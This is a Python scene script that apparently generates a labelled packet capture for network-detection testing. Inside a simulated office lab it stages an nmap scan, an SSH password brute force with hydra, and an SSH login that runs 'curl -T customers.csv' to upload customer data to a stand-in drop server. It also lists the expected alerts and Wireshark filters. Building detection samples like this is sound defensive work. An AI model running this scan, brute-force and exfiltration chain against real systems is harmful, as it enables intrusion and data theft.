"""One incident from its beginning to its end, recorded where the servers are: a scan, guessed passwords, a login that works, and what leaves then."""

import pathlib
import threading
import time

import services
from lab import LAB, Capture, Lab
from office import Office
from registry import Sample, scene
from scenes.web import FIREFOX, SAFARI, curl

DROP = '203.0.113.80'
NGINX = """
user root; worker_processes 1; error_log {log}; pid {pid}; daemon off;
events {{ worker_connections 64; }}
http {{ access_log off; server_tokens off; server {{ listen 80; root {root}; client_max_body_size 64m; dav_methods PUT; }} }}
"""


def drop(office: Office) -> None:
    """A web server outside, in a network for documentation, that takes what is put there."""
    host = office.lab.host('drop')
    office.lab.cable(office.router, 'out0', host, 'eth0', a_mac='00:1e:bd:7a:10:03', b_mac='52:54:00:d0:0d:80')
    office.router.address('203.0.113.1/24', port='out0')
    host.address(f'{DROP}/24')
    host.route('203.0.113.1')
    root = LAB / 'drop'
    root.mkdir(exist_ok=True)
    pathlib.Path('/var/log/nginx').mkdir(exist_ok=True)
    config = host.lab.folder / 'drop.conf'
    config.write_text(NGINX.format(log='/var/log/nginx/drop.log', pid='/run/nginx-drop.pid', root=root))
    host.spawn('nginx', '-c', str(config))
    host.wait_for_port(80)


@scene(Sample(
    'break-in.pcap.gz', 'A kiosk scans the servers, guesses an SSH password, gets in, and the file server sends its customers to a stranger, while others work.',
    'Recorded beside the servers. The kiosk 192.168.10.24 scans 10.20.0.10 and 10.20.0.20 with nmap, tries 29 passwords over SSH with hydra until one fits, logs in and lets the file server put 11 MB '
    'of a table to drop.example.net, 203.0.113.80, over HTTP. Alice and bob browse meanwhile, and bob fetches a file over FTP.',
    ['`port-scan` of 10.20.0.10 and 10.20.0.20 by 192.168.10.24', '`scanner-software`: Nmap, by the marks of its SYNs', '`brute-force` and `brute-force-success` over SSH at 10.20.0.20', '`data-exfiltration` of 10.20.0.20 to 203.0.113.80', 'one incident of severity high or above joins these',
     '`cleartext-credentials` and `insecure-protocol`: bob and FTP, no part of the incident'],
    ['ip.src == 192.168.10.24 && tcp.flags.syn == 1 && tcp.flags.ack == 0 | the scan and the guesses', 'ssh.protocol | hydra and the login', 'http.request.method == "PUT" | what left',
     'dns.qry.name == "drop.example.net" | the name of the stranger']))
def break_in(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob', 'kiosk'), ('web', 'files'), delay_ms=2, names=(f'--host-record=drop.example.net,{DROP}',))
    # Before its shell starts, which sees the file that was there then.
    office.files.resolver('10.20.0.1')
    authority = services.web(office.web)
    services.shell(office.files)
    services.files(office.files)
    drop(office)
    words = lab.folder / 'words.txt'
    words.write_text('\n'.join([f'guess-{number:02}' for number in range(28)] + [services.PASSWORD, 'guess-28']) + '\n')
    # Of lines that repeat, so that the sample stays small.
    rows = ''.join(f'customer {n},{n} Garden Street,paid\n' for n in range(10, 26))
    (LAB / 'home' / 'alice' / 'customers.csv').write_text((rows * 20_000)[:11_000_000])

    def others() -> None:
        for turn in range(3):
            curl(office.alice, 'https://www.example.com/', 'https://www.example.com/style.css', agent=FIREFOX, options=('--cacert', authority, '--compressed'))
            curl(office.bob, 'http://intranet.example.test/', 'http://intranet.example.test/logo.png', agent=SAFARI)
            time.sleep(4)
            if turn == 0:
                office.bob.run('curl', '-s', '-o', '/dev/null', '--user', f'alice:{services.PASSWORD}', 'ftp://files.example.com/notes.txt',
                               show='curl -s -o /dev/null --user alice:*** ftp://files.example.com/notes.txt')
            time.sleep(4)

    with Capture(office.rack, 'break-in.pcap', 'tcpdump', '-i', 'br0'):
        people = threading.Thread(target=others)
        people.start()
        time.sleep(2)
        office.kiosk.run('nmap', '-n', '-Pn', '-sS', '--max-retries', '1', '--scan-delay', '10ms', '-p', '1-120,443,445,1433,3306,3389,5432,5900,8080', '10.20.0.10', '10.20.0.20')
        time.sleep(2)
        office.kiosk.run('hydra', '-I', '-f', '-t', '4', '-l', 'alice', '-P', str(words), 'ssh://10.20.0.20', show='hydra -f -t 4 -l alice -P words.txt ssh://10.20.0.20')
        time.sleep(2)
        office.kiosk.run('sshpass', '-p', services.PASSWORD, 'ssh', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR', 'alice@10.20.0.20',
                         'uname -a; ls -l; curl -s --limit-rate 900k -T customers.csv http://drop.example.net/customers.csv',
                         show='ssh alice@10.20.0.20 "uname -a; ls -l; curl -s --limit-rate 900k -T customers.csv http://drop.example.net/customers.csv"')
        people.join()
    office.rack.run('gzip', '-9n', str(lab.folder / 'break-in.pcap'), show='gzip -9n break-in.pcap')
